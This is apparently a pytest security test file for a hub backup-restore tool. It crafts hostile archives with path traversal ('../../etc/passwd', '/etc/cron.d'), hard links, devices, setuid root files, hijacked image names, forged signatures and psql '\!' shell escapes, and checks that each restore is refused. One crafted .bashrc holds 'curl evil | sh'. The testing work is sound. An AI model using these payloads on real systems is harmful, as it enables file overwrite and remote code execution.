"""A restore cannot escape the state directory: every archive here is crafted to try.

The outer archive is well formed (its manifest lists every member with its checksum); what it
carries inside is hostile: a home folder aimed at a root the archive names, a home tar with a
hard link out of its folder, a device, an absolute symlink, root-owned set-uid files; an image
tar that names a catalog image; site config code; a forged or missing signature. Each restore
must refuse with one line, and leave every file outside (and the state directory) as it was.
The pure checks (fgpu_admin/home_tar.py, image_tar.py, signing.py, archive.py) are tested on
their own first.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import secrets
import subprocess
import tarfile
from pathlib import Path

import docker.errors
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from fgpu_admin import archive, home_tar, image_tar, signing, sql_dump
from fgpu_admin.archive import ArchiveError
from fgpu_admin.cli import main
from queue_service.store import state_dir

from .harness import VENV_BIN
from .hub_state import hub_db_rows, make_hub_state
from .test_restore import restore_on_a_terminal

# ---------------------------------------------------------------------------------------------
# Crafting archives.
# ---------------------------------------------------------------------------------------------


def entry(name: str, data: bytes = b"", **attrs) -> tuple[tarfile.TarInfo, bytes]:
    """A tar member: a regular file by default; `type`, `linkname`, `uid`, `mode`... as given."""
    info = tarfile.TarInfo(name)
    info.size = len(data) if attrs.get("type", tarfile.REGTYPE) == tarfile.REGTYPE else 0
    info.mode = 0o644
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


def folder(name: str) -> tuple[tarfile.TarInfo, bytes]:
    return entry(name, type=tarfile.DIRTYPE, mode=0o755)


def tar_bytes(entries) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, content in entries:
            tar.addfile(info, io.BytesIO(content) if info.isreg() else None)
    return data.getvalue()


def members_of(path: Path) -> dict[str, bytes]:
    with tarfile.open(path, "r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}


def craft(base: Path, out: Path, add: dict[str, bytes], edit=None, keep_signature=False) -> Path:
    """`base` with the members `add` and the manifest changed by `edit`, its checksums right."""
    members = members_of(base)
    manifest = json.loads(members.pop(archive.MANIFEST))
    signature = members.pop(signing.SIGNATURE, None)
    members.update(add)
    for name, data in add.items():
        manifest["members"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    if edit:
        edit(manifest)
    members[archive.MANIFEST] = archive.manifest_bytes(manifest)
    if keep_signature and signature is not None:
        members[signing.SIGNATURE] = signature
    with tarfile.open(out, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out


def with_home(home: dict):
    return lambda manifest: manifest["homes"].append(home)


@pytest.fixture
def site(tmp_path, monkeypatch, capsys):
    """An empty state directory (a fresh machine) and the archive of a small hub made there."""
    state = tmp_path / "hub"
    state.mkdir()
    monkeypatch.chdir(state)  # the SQLite URLs are relative to it
    for name in (
        state_dir.HUB_DB_ENV,
        state_dir.QUEUE_DB_ENV,
        "FGPU_CATALOG_PATH",
        "FGPU_SWARM_HOME_ROOT",
        signing.KEY_ENV,
    ):
        monkeypatch.delenv(name, raising=False)
    base = backup(state, tmp_path / "base.tar.gz", capsys)
    return state, base


def backup(state: Path, out: Path, capsys, *options: str) -> Path:
    """A small hub's state in `state`, backed up to `out`; `state` is left empty."""
    make_hub_state(state, state_dir.DEFAULT_HUB_DB_URL, state_dir.DEFAULT_QUEUE_DB_URL, 1, 1)
    assert main(["backup", "--output", str(out), *options]) == 0
    for path in state.iterdir():
        path.unlink()
    capsys.readouterr()
    return out


def refused(capsys, path: Path, state: Path, expected: str, *options: str) -> str:
    """The restore exits 1 with one line naming `expected`, and the state directory stays empty."""
    code = main(["restore", str(path), "--yes", *options])
    out, err = capsys.readouterr()
    assert code == 1 and out == "", (out, err)
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("error: ") and expected in err, err
    assert list(state.iterdir()) == []
    return err


def restored(capsys, path: Path, *options: str) -> None:
    code = main(["restore", str(path), "--yes", *options])
    _, err = capsys.readouterr()
    assert code == 0, err


# ---------------------------------------------------------------------------------------------
# The pure checks.
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("info", "why"),
    [
        (entry("bob/etc", type=tarfile.SYMTYPE, linkname="/etc")[0], "outside its folder"),
        (entry("alice/hosts", type=tarfile.LNKTYPE, linkname="/etc/hosts")[0], "hard link"),
        (entry("alice/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)[0], "device"),
        (entry("alice/pipe", type=tarfile.FIFOTYPE)[0], "device or pipe"),
        (entry("bob/notes.txt")[0], "outside its folder"),
        (entry("alice/../bob/x")[0], "outside its folder"),
        (entry("/etc/cron.d/x")[0], "outside its folder"),
        (entry("alice/a\\b")[0], "backslash"),
    ],
)
def test_a_home_member_that_is_no_plain_file_or_leaves_its_folder_is_refused(info, why):
    assert why in home_tar.member_problem(info, "alice")


def test_plain_files_and_folders_of_the_home_pass():
    for info in (folder("alice")[0], folder("alice/work")[0], entry("alice/work/n.ipynb")[0]):
        assert home_tar.member_problem(info, "alice") is None


def test_a_checked_home_copy_belongs_to_the_session_user(tmp_path):
    source = tmp_path / "home.tar"
    setuid = entry("alice/tool", b"#!", uid=0, gid=0, uname="root", mode=0o4755)
    source.write_bytes(tar_bytes([folder("alice"), setuid]))
    home_tar.safe_copy(source, tmp_path / "safe.tar", "alice", "alice")
    with tarfile.open(tmp_path / "safe.tar") as tar:
        tool = tar.getmember("alice/tool")
        assert (tool.uid, tool.gid, tool.uname, tool.mode) == (1000, 100, "", 0o755)
        assert tar.extractfile(tool).read() == b"#!"
    assert home_tar.session_owner() == (1000, 100)


def test_a_home_folder_goes_under_the_sites_root_only(tmp_path):
    home = {"name": "/etc/cron.d", "kind": "folder"}
    with pytest.raises(ArchiveError, match="names no FGPU_SWARM_HOME_ROOT"):
        archive.home_folder(home, None)
    assert archive.home_folder(home, str(tmp_path)) == tmp_path / "cron.d"
    for name in ("/srv/homes/..", "/", ".", "a\\b"):
        with pytest.raises(ArchiveError, match="unsafe name"):
            archive.home_folder({"name": name}, str(tmp_path))


@pytest.mark.parametrize(
    "entry_",
    [
        {"member": "state/x", "kind": "state", "restore_to": "../../etc/passwd"},
        {"member": "state/x", "kind": "state", "restore_to": "jupyterhub_config.py"},
        {"member": "config/site/x", "kind": "site-config", "restore_to": "/etc/profile.py"},
        {"member": "config/site/x", "kind": "site-config", "restore_to": "evil.sh"},
    ],
)
def test_a_file_is_restored_under_a_known_name_only(entry_):
    names = frozenset(f.name for f in state_dir.STATE_FILES)
    with pytest.raises(ArchiveError, match="not a state file"):
        archive.file_name(entry_, names)


def test_the_state_and_config_names_a_backup_writes_pass():
    names = frozenset(f.name for f in state_dir.STATE_FILES)
    state = {"kind": "state", "restore_to": "fgpu_deployment_id"}
    config = {"kind": "site-config", "restore_to": "site_config.py"}
    assert archive.file_name(state, names) == "fgpu_deployment_id"
    assert archive.file_name(config, names) == "site_config.py"


def docker_save_tar(tags: list[str], repositories: dict | None = None) -> bytes:
    """The name-bearing files of a `docker save` tar (enough for the checks)."""
    files = [
        entry("manifest.json", json.dumps([{"Config": "abc.json", "RepoTags": tags}]).encode())
    ]
    if repositories is not None:
        files.append(entry("repositories", json.dumps(repositories).encode()))
    return tar_bytes(files)


def test_every_name_an_image_tar_carries_is_found(tmp_path):
    path = tmp_path / "image.tar"
    path.write_bytes(docker_save_tar(["fgpu-private/a:1"], {"fgpu/jupyter-base": {"py3.11": "x"}}))
    assert image_tar.names_in(path) == {"fgpu-private/a:1", "fgpu/jupyter-base:py3.11"}
    assert image_tar.image_id(path) == "sha256:abc"
    with pytest.raises(ArchiveError, match="also be loaded as 'fgpu/jupyter-base:py3.11'"):
        image_tar.check_names(image_tar.names_in(path), "fgpu-private/a:1", True)
    image_tar.check_names({"fgpu-private/a:1"}, "fgpu-private/a:1", True)
    with pytest.raises(ArchiveError, match="not a private image"):
        image_tar.check_names({"fgpu/jupyter-base:py3.11"}, "fgpu/jupyter-base:py3.11", False)
    # An OCI index names images too (a newer engine tags from it).
    annotated = {"manifests": [{"annotations": {"io.containerd.image.name": "fgpu/x:1"}}]}
    oci = tmp_path / "oci.tar"
    oci.write_bytes(
        tar_bytes(
            [
                entry("manifest.json", json.dumps([{"RepoTags": ["fgpu-private/a:1"]}]).encode()),
                entry("index.json", json.dumps(annotated).encode()),
            ]
        )
    )
    assert image_tar.names_in(oci) == {"fgpu-private/a:1", "fgpu/x:1"}
    (tmp_path / "no-manifest.tar").write_bytes(tar_bytes([entry("repositories", b"{}")]))
    with pytest.raises(ArchiveError, match="not a `docker save` tar"):
        image_tar.names_in(tmp_path / "no-manifest.tar")


def test_a_dump_reaches_psql_locked_and_without_its_commands():
    dump = [
        b"\\restrict theirs\n",
        b"CREATE TABLE t (a text);\n",
        b"COPY public.t (a) FROM stdin;\n",
        b"\\N\n",  # a NULL in COPY data: not a command
        b"\\.\n",
        b"SELECT 1; \\! date\n",  # mid-line: psql's lock refuses it (test below)
        b"\\unrestrict theirs\n",
    ]
    locked = list(sql_dump.locked_lines(dump, "ours", "db/hub.sql"))
    assert locked == [b"\\restrict ours\n", *dump[1:6]]
    with pytest.raises(ArchiveError, match=r"db/hub.sql runs the psql command '\\\\!' \(line 2\)"):
        list(sql_dump.locked_lines([dump[1], b"\\! touch /x\n"], "ours", "db/hub.sql"))


@pytest.mark.parametrize(
    ("version", "knows"),
    [
        ("psql (PostgreSQL) 15.18 (Debian 15.18-0+deb12u1)", True),
        ("psql (PostgreSQL) 15.13", False),
        ("psql (PostgreSQL) 17.6", True),
        ("psql (PostgreSQL) 18beta1", True),
        ("psql (PostgreSQL) 12.22", False),
        ("", False),
    ],
)
def test_only_a_psql_that_can_lock_a_dump_is_used(version, knows):
    assert sql_dump.knows_restrict(version) is knows


def write_key(path: Path) -> Path:
    key = Ed25519PrivateKey.generate()
    path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return path


def test_a_signature_holds_for_its_manifest_and_key_alone(tmp_path):
    ours, theirs = write_key(tmp_path / "ours.key"), write_key(tmp_path / "theirs.key")
    manifest = b'{"format": "fgpu-hub-backup"}\n'
    signed = signing.sign(manifest, signing.signing_key(ours))
    key = signing.verify_key(ours)
    signing.check(manifest, signed, key, ours)
    signing.check(manifest, None, None, None)  # a site without a key checks nothing
    with pytest.raises(ArchiveError, match="not one made with this site's key"):
        signing.check(manifest.replace(b"}", b', "x": 1}'), signed, key, ours)
    with pytest.raises(ArchiveError, match="not one made with this site's key"):
        signing.check(manifest, signed, signing.verify_key(theirs), theirs)
    with pytest.raises(ArchiveError, match="it is not signed"):
        signing.check(manifest, None, key, ours)
    # A machine that only restores may hold the public half alone; it cannot sign.
    public = tmp_path / "ours.pub"
    public.write_bytes(
        key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    signing.check(manifest, signed, signing.verify_key(public), public)
    with pytest.raises(ArchiveError, match="it cannot sign"):
        signing.signing_key(public)
    (tmp_path / "junk.key").write_text("not a key\n")
    with pytest.raises(ArchiveError, match="is not a PEM ed25519 key"):
        signing.verify_key(tmp_path / "junk.key")


# ---------------------------------------------------------------------------------------------
# Home folders (Swarm): a whole restore of each crafted archive.
# ---------------------------------------------------------------------------------------------


def home_archive(base: Path, out: Path, name: str, entries) -> Path:
    member = f"homes/{Path(name).name}.tar"
    home = {"name": name, "kind": "folder", "size": 1, "member": member, "save_command": "-"}
    return craft(base, out, {member: tar_bytes(entries)}, with_home(home))


def test_a_home_folder_never_goes_to_a_root_the_archive_names(site, tmp_path, capsys, monkeypatch):
    state, base = site
    outside = tmp_path / "outside" / "cron.d"
    evil = home_archive(
        base, tmp_path / "evil.tar.gz", str(outside), [folder("cron.d"), entry("cron.d/x", b"* *")]
    )
    refused(capsys, evil, state, "names no FGPU_SWARM_HOME_ROOT")
    assert not (tmp_path / "outside").exists()
    # Where the site names its root, the folder goes there, by its last name part.
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(tmp_path / "homes"))
    restored(capsys, evil)
    assert (tmp_path / "homes" / "cron.d" / "x").read_bytes() == b"* *"
    assert not (tmp_path / "outside").exists()


def test_a_hard_link_out_of_a_home_overwrites_nothing(site, tmp_path, capsys, monkeypatch):
    state, base = site
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(tmp_path / "homes"))
    evil = home_archive(
        base,
        tmp_path / "evil.tar.gz",
        "alice",
        [
            folder("alice"),
            entry("alice/link", type=tarfile.LNKTYPE, linkname=str(victim)),
            entry("alice/link", b"pwned\n"),
        ],
    )
    refused(capsys, evil, state, f"is a hard link to {str(victim)!r}")
    assert victim.read_text() == "precious\n"
    assert not (tmp_path / "homes" / "alice").exists()


@pytest.mark.parametrize(
    ("member", "why"),
    [
        (entry("alice/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3), "device"),
        (entry("bob/.bashrc", b"curl evil | sh\n"), "outside its folder 'alice'"),
    ],
)
def test_devices_links_and_other_homes_in_a_home_tar_are_refused(
    site, tmp_path, capsys, monkeypatch, member, why
):
    state, base = site
    homes = tmp_path / "homes"
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(homes))
    evil = home_archive(base, tmp_path / "evil.tar.gz", "alice", [folder("alice"), member])
    refused(capsys, evil, state, why)
    assert not homes.exists() or list(homes.iterdir()) == []


def test_a_link_a_user_left_in_their_home_does_not_lead_the_restore_out(
    site, tmp_path, capsys, monkeypatch
):
    """The restore writes into an existing home: a symlink made there in a session (work ->
    a folder outside) must not carry the archive's files out of the root."""
    state, base = site
    homes, outside = tmp_path / "homes", tmp_path / "outside"
    (homes / "alice").mkdir(parents=True)
    outside.mkdir()
    (homes / "alice" / "work").symlink_to(outside)
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(homes))
    evil = home_archive(
        base, tmp_path / "evil.tar.gz", "alice", [folder("alice"), entry("alice/work/x", b"x")]
    )
    refused(capsys, evil, state, "outside the destination")
    assert list(outside.iterdir()) == []


def test_a_link_in_a_home_is_left_out_and_named_and_the_rest_is_restored(
    site, tmp_path, capsys, monkeypatch
):
    """Homes hold links (a virtualenv's bin/python): one never aborts the restore; it is not
    written (it could lead out of the home) and the output names it."""
    state, base = site
    homes = tmp_path / "homes"
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(homes))
    home = [
        folder("alice"),
        entry("alice/etc", type=tarfile.SYMTYPE, linkname="/etc"),
        entry("alice/up", type=tarfile.SYMTYPE, linkname="../../x"),
        entry("alice/notes.txt", b"kept\n"),
    ]
    code = main(
        ["restore", str(home_archive(base, tmp_path / "links.tar.gz", "alice", home)), "--yes"]
    )
    _, err = capsys.readouterr()
    assert code == 0, err
    assert (homes / "alice" / "notes.txt").read_text() == "kept\n"
    assert sorted(p.name for p in (homes / "alice").iterdir()) == ["notes.txt"]
    assert "left out alice/etc (symbolic link to '/etc')" in err
    assert "left out alice/up (symbolic link to '../../x')" in err


def test_restored_home_files_belong_to_the_session_user(site, tmp_path, capsys, monkeypatch):
    state, base = site
    monkeypatch.setenv("FGPU_SWARM_HOME_ROOT", str(tmp_path / "homes"))
    home = [folder("alice"), entry("alice/tool", b"#!/bin/sh\n", uid=0, gid=0, mode=0o4755)]
    restored(capsys, home_archive(base, tmp_path / "home.tar.gz", "alice", home))
    tool = (tmp_path / "homes" / "alice" / "tool").stat()
    assert (tool.st_uid, tool.st_gid, tool.st_mode & 0o7777) == (1000, 100, 0o755)


# ---------------------------------------------------------------------------------------------
# Home volumes.
# ---------------------------------------------------------------------------------------------


def volume_archive(base: Path, out: Path, name: str, entries) -> Path:
    member = f"homes/{name}.tar"
    home = {
        "name": name,
        "kind": "volume",
        "user": "alice",
        "labels": {"fgpu.volume": "home", "fgpu.user": "alice"},
        "size": 1,
        "member": member,
        "save_command": "-",
    }
    return craft(base, out, {member: tar_bytes(entries)}, with_home(home))


def test_a_home_volume_tar_writes_inside_its_home_only(site, tmp_path, capsys, docker_engine):
    state, base = site
    name = f"fgpu-home-restore-test-{secrets.token_hex(4)}"
    evil = volume_archive(
        base, tmp_path / "evil.tar.gz", name, [folder("fgpu-home"), entry("etc/cron.d/x", b"x")]
    )
    try:
        refused(capsys, evil, state, "'etc/cron.d/x' is outside its folder 'fgpu-home'")
        with pytest.raises(docker.errors.NotFound):
            docker_engine.volumes.get(name)
    finally:
        with contextlib.suppress(docker.errors.NotFound):
            docker_engine.volumes.get(name).remove(force=True)


def test_a_volume_that_is_no_home_is_never_filled(site, tmp_path, capsys, docker_engine):
    state, base = site
    name = f"fgpu-test-restore-data-{secrets.token_hex(4)}"
    docker_engine.volumes.create(name)  # a group's data, say: no home label
    evil = volume_archive(
        base, tmp_path / "evil.tar.gz", name, [folder("fgpu-home"), entry("fgpu-home/x", b"x")]
    )
    try:
        refused(capsys, evil, state, f"volume {name}, which is not a home volume here")
        listing = docker_engine.containers.run(
            "fgpu/jupyter-base:py3.11",
            ["ls", "-A", "/v"],
            volumes={name: {"bind": "/v", "mode": "ro"}},
            remove=True,
        )
        assert listing.strip() == b""
    finally:
        docker_engine.volumes.get(name).remove(force=True)


# ---------------------------------------------------------------------------------------------
# Images.
# ---------------------------------------------------------------------------------------------


def tiny_image(engine, reference: str, content: bytes) -> str:
    """An image of one file, imported under `reference`; its id."""
    data = tar_bytes([entry("hello.txt", content)])
    repository, tag = reference.rsplit(":", 1)
    engine.api.import_image_from_data(data, repository=repository, tag=tag)
    return engine.images.get(reference).id


def saved_as(engine, reference: str, names: list[str]) -> bytes:
    """`docker save` of `reference`, its manifest.json and repositories renamed to `names`."""
    saved = io.BytesIO(b"".join(engine.images.get(reference).save(named=True)))
    out = []
    with tarfile.open(fileobj=saved) as tar:
        for member in tar.getmembers():
            data = tar.extractfile(member).read() if member.isreg() else b""
            if member.name == "manifest.json":
                manifest = json.loads(data)
                manifest[0]["RepoTags"] = names
                data = json.dumps(manifest).encode()
            elif member.name == "repositories":
                repository, tag = names[0].rsplit(":", 1)
                data = json.dumps({repository: {tag: next(iter(json.loads(data).values()))}})
                data = data.encode()
            member.size = len(data)
            out.append((member, data))
    return tar_bytes(out)


def image_archive(base: Path, out: Path, name: str, image: bytes) -> Path:
    member = "images/restore-test.tar"
    listed = {"name": name, "size": len(image), "member": member, "save_command": "-"}
    return craft(base, out, {member: image}, lambda manifest: manifest["images"].append(listed))


@pytest.fixture
def image_names(docker_engine):
    """A catalog-like image and a private one, of this test's own; removed after."""
    token = secrets.token_hex(4)
    names = (f"fgpu-test/restore-catalog:{token}", f"fgpu-private/restore-test:{token}")
    yield names
    for name in names:
        with contextlib.suppress(docker.errors.NotFound):
            docker_engine.images.remove(name, force=True)


def test_an_image_tar_cannot_take_a_catalog_images_name(
    site, tmp_path, capsys, docker_engine, image_names
):
    state, base = site
    catalog, private = image_names
    catalog_id = tiny_image(docker_engine, catalog, b"catalog")
    tiny_image(docker_engine, private, b"evil")
    evil_tar = saved_as(docker_engine, private, [catalog])
    docker_engine.images.remove(private, force=True)
    evil = image_archive(base, tmp_path / "evil.tar.gz", private, evil_tar)
    refused(capsys, evil, state, f"would also be loaded as {catalog!r}")
    assert docker_engine.images.get(catalog).id == catalog_id
    # Nor can the manifest list a name outside the private repository.
    listed_as_catalog = image_archive(base, tmp_path / "evil2.tar.gz", catalog, evil_tar)
    refused(capsys, listed_as_catalog, state, "not a private image")
    assert docker_engine.images.get(catalog).id == catalog_id


def test_an_image_already_there_is_replaced_only_when_asked(
    site, tmp_path, capsys, docker_engine, image_names
):
    state, base = site
    _, private = image_names
    archived_id = tiny_image(docker_engine, private, b"archived")
    archived = image_archive(
        base, tmp_path / "img.tar.gz", private, saved_as(docker_engine, private, [private])
    )
    present_id = tiny_image(docker_engine, private, b"present")
    done = cli(state, "restore", str(archived))
    assert done.returncode == 1
    assert f"already holds a hub's state (image {private})" in done.stderr
    assert docker_engine.images.get(private).id == present_id
    assert list(state.iterdir()) == []
    restored(capsys, archived)
    assert docker_engine.images.get(private).id == archived_id


# ---------------------------------------------------------------------------------------------
# Site config and signatures.
# ---------------------------------------------------------------------------------------------


def cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """fgpu-hub as a script runs it: no terminal to ask on."""
    return subprocess.run(
        [str(VENV_BIN / "fgpu-hub"), *args],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_site_config_code_is_installed_only_when_asked_for(site, tmp_path, capsys):
    state, _ = site
    (state / "site_config.py").write_text('load_subconfig("jupyterhub_config.py")\n')
    base = backup(state, tmp_path / "config.tar.gz", capsys)
    done = cli(state, "restore", str(base), "--yes")
    assert done.returncode == 1
    (line,) = done.stderr.strip().splitlines()
    assert "site config files, code the hub runs: site_config.py (new)" in line
    assert line.endswith("run again with --install-config to install them")
    assert list(state.iterdir()) == []
    # It lists one that would replace a file here too.
    (state / "site_config.py").write_text("c = get_config()\n")
    done = cli(state, "restore", str(base), "--yes")
    assert "site_config.py (replaces the one here)" in done.stderr
    assert (state / "site_config.py").read_text() == "c = get_config()\n"
    assert [p.name for p in state.iterdir()] == ["site_config.py"]
    restored(capsys, base, "--install-config")
    assert (state / "site_config.py").read_text().startswith("load_subconfig")


def test_on_a_terminal_the_site_config_is_asked_about(site, tmp_path, capsys):
    state, _ = site
    (state / "site_config.py").write_text("c = get_config()\n")
    base = backup(state, tmp_path / "config.tar.gz", capsys)
    for answer, code in (("n", 1), ("y", 0)):
        returncode, out, err = restore_on_a_terminal(base, state, answer)
        assert returncode == code, err
        assert "Install site config site_config.py (new) (code the hub runs)? [y/N]" in out
        if answer == "n":
            assert err.strip().endswith("error: nothing restored")
            assert list(state.iterdir()) == []
    assert (state / "site_config.py").read_text() == "c = get_config()\n"


def test_a_site_with_a_key_restores_its_own_signed_archives_alone(
    site, tmp_path, capsys, monkeypatch
):
    state, base = site
    key = write_key(tmp_path / "backup.key")
    other = write_key(tmp_path / "other.key")
    signed = backup(state, tmp_path / "signed.tar.gz", capsys, "--sign", str(key))
    assert signing.SIGNATURE in members_of(signed)

    monkeypatch.setenv(signing.KEY_ENV, str(key))
    refused(capsys, base, state, "it is not signed, and this site checks signatures")
    changed = craft(
        signed,
        tmp_path / "changed.tar.gz",
        {"state/fgpu_deployment_id": b"another\n"},
        keep_signature=True,
    )
    refused(capsys, changed, state, "its signature is not one made with this site's key")
    refused(capsys, signed, state, "not one made with this site's key", "--key", str(other))
    restored(capsys, signed)
    assert (state / "fgpu_deployment_id").is_file()


def test_signing_needs_a_key_and_says_how_to_make_one(site, tmp_path, capsys, monkeypatch):
    state, base = site
    monkeypatch.setattr(signing, "DEFAULT_KEY", tmp_path / "none.key")
    make_hub_state(state, state_dir.DEFAULT_HUB_DB_URL, state_dir.DEFAULT_QUEUE_DB_URL, 1, 1)
    assert main(["backup", "--sign", "--output", str(tmp_path / "x.tar.gz")]) == 1
    err = capsys.readouterr().err
    assert "--sign: no key at" in err and "openssl genpkey -algorithm ed25519" in err
    assert not (tmp_path / "x.tar.gz").exists()


# ---------------------------------------------------------------------------------------------
# PostgreSQL dumps.
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["postgresql"], indirect=True)
@pytest.mark.parametrize(
    ("line", "why"),
    [
        (b"\\! touch {mark}\n", "db/hub.sql runs the psql command '\\\\!' (line 1)"),
        (b"SELECT 1; \\! touch {mark}\n", "backslash commands are restricted"),
    ],
)
def test_a_shell_command_in_a_dump_never_runs(tmp_path, monkeypatch, capsys, hub_dbs, line, why):
    state = tmp_path / "hub"
    state.mkdir()
    monkeypatch.chdir(state)
    for name in ("FGPU_CATALOG_PATH", "FGPU_SWARM_HOME_ROOT", signing.KEY_ENV):
        monkeypatch.delenv(name, raising=False)
    make_hub_state(state, *hub_dbs, 1, 1)
    base = tmp_path / "base.tar.gz"
    assert main(["backup", "--output", str(base)]) == 0
    mark = tmp_path / "escaped"
    dump = members_of(base)["db/hub.sql"]
    evil = craft(
        base,
        tmp_path / "evil.tar.gz",
        {"db/hub.sql": line.replace(b"{mark}", str(mark).encode()) + dump},
    )
    before = hub_db_rows(hub_dbs[0])
    capsys.readouterr()
    code = main(["restore", str(evil), "--yes"])
    err = capsys.readouterr().err
    assert code == 1 and why in err, err
    assert not mark.exists()
    assert hub_db_rows(hub_dbs[0]) == before
